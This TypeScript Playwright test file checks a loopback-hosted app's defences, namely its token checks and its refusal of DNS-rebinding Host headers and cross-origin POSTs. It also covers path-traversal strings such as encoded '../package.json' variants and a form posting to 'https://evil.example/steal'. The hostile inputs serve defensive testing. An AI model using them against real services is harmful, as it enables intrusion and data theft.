import { request as httpRequest } from 'node:http';
import { expect, test } from './fixtures';

/** Raw HTTP, because browsers will not let a page forge Host or Origin. */
function rawRequest(port: number, path: string, headers: Record<string, string>, method = 'GET', body?: string) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, path, method, headers }, (res) => {
      let data = '';
      res.on('data', (chunk) => (data += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: data }));
    });
    req.on('error', reject);
    if (body) req.write(body);
    req.end();
  });
}

test.describe('loopback host security', () => {
  test('the page without its token is refused', async ({ page, cockpit }) => {
    const response = await page.goto(`http://127.0.0.1:${cockpit.host.port}/`);
    expect(response?.status()).toBe(401);
    await expect(page.getByRole('heading', { name: 'Access refused' })).toBeVisible();
  });

  test('no request the page makes carries a Referer (which held the token on the first load)', async ({ page, cockpit }) => {
    const referers: (string | undefined)[] = [];
    page.on('request', (r) => referers.push(r.headers().referer));
    await cockpit.open(page);
    expect(referers.length).toBeGreaterThan(1);
    expect(referers.filter(Boolean)).toEqual([]);
  });

  test('an API call without or with a wrong token is refused and changes nothing', async ({ cockpit }) => {
    const body = JSON.stringify({ method: 'site.create', input: { name: 'Evil DC', region: 'X', timeZone: 'UTC', kind: 'dc' } });
    const none = await rawRequest(cockpit.host.port, '/api/call', { host: `127.0.0.1:${cockpit.host.port}`, 'content-type': 'application/json' }, 'POST', body);
    expect(none.status).toBe(401);
    expect(JSON.parse(none.body)).toMatchObject({ ok: false, error: { code: 'UNAUTHORISED' } });
    const wrong = await rawRequest(cockpit.host.port, '/api/call', { host: `127.0.0.1:${cockpit.host.port}`, 'content-type': 'application/json', 'x-cockpit-token': 'guess' }, 'POST', body);
    expect(wrong.status).toBe(401);
    const names = cockpit.session.ctx.db.prepare('SELECT name FROM sites').pluck().all();
    expect(names).not.toContain('Evil DC');
  });

  test('a foreign Host header (DNS rebinding) and a foreign Origin are refused even with the token', async ({ cockpit }) => {
    const { port, token } = cockpit.host;
    const body = JSON.stringify({ method: 'workspace.info', input: {} });
    const rebinding = await rawRequest(port, '/api/call', { host: `evil.example:${port}`, 'content-type': 'application/json', 'x-cockpit-token': token }, 'POST', body);
    expect(rebinding.status).toBe(421);
    const crossOrigin = await rawRequest(port, '/api/call', { host: `127.0.0.1:${port}`, origin: 'https://evil.example', 'content-type': 'application/json', 'x-cockpit-token': token }, 'POST', body);
    expect(crossOrigin.status).toBe(403);
    const good = await rawRequest(port, '/api/call', { host: `127.0.0.1:${port}`, origin: `http://127.0.0.1:${port}`, 'content-type': 'application/json', 'x-cockpit-token': token }, 'POST', body);
    expect(JSON.parse(good.body)).toMatchObject({ ok: true });
  });

  test('a cross-site form or a text/plain POST is refused, even one that somehow carries the token', async ({ cockpit }) => {
    const { port, token } = cockpit.host;
    const body = JSON.stringify({ method: 'site.create', input: { name: 'Form DC', region: 'X', timeZone: 'UTC', kind: 'dc' } });
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const sneaky = await rawRequest(port, '/api/call', { host: `127.0.0.1:${port}`, 'content-type': type, 'x-cockpit-token': token }, 'POST', body);
      expect(sneaky.status).toBe(415);
    }
    // What a cross-site form really sends: its own Origin, and no token header at all.
    const form = await rawRequest(port, '/api/call', { host: `127.0.0.1:${port}`, origin: 'https://evil.example', 'content-type': 'text/plain' }, 'POST', body);
    expect(form.status).toBe(403);
    expect(cockpit.session.ctx.db.prepare('SELECT name FROM sites').pluck().all()).not.toContain('Form DC');
  });

  test('files outside the renderer folder cannot be read, nor the page under another spelling', async ({ cockpit }) => {
    const { port } = cockpit.host;
    for (const path of ['/../../package.json', '/%2e%2e/%2e%2e/package.json', '/..%2f..%2fpackage.json', '/index%2Ehtml', '/%69ndex.html']) {
      const res = await rawRequest(port, path, { host: `127.0.0.1:${port}` });
      expect(res.status, path).toBe(404);
    }
  });

  test('the page carries a strict CSP: injected inline script does not run, forms cannot navigate away', async ({ page, cockpit }) => {
    const response = await page.goto(cockpit.host.url);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("form-action 'none'");
    expect(response?.headers()['x-frame-options']).toBe('DENY');

    const violations: string[] = [];
    page.on('console', (msg) => violations.push(msg.text()));
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true';
      document.body.appendChild(s);
    });
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();

    const before = page.url();
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'POST';
      document.body.appendChild(form);
      form.submit();
    });
    await page.waitForTimeout(300);
    expect(new URL(page.url()).origin).toBe(new URL(before).origin);
  });

  test('the token is taken out of the address bar once the app has it', async ({ page, cockpit }) => {
    await cockpit.open(page);
    expect(page.url()).not.toContain('token=');
  });
});

test('a reload keeps working without the token in the address bar, through a same-site cookie', async ({ page, cockpit }) => {
  await cockpit.open(page);
  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Sections' })).toBeVisible();
  const cookies = await page.context().cookies();
  const pageCookie = cookies.find((c) => c.name === `cockpit_page_${cockpit.host.port}`);
  expect(pageCookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
});
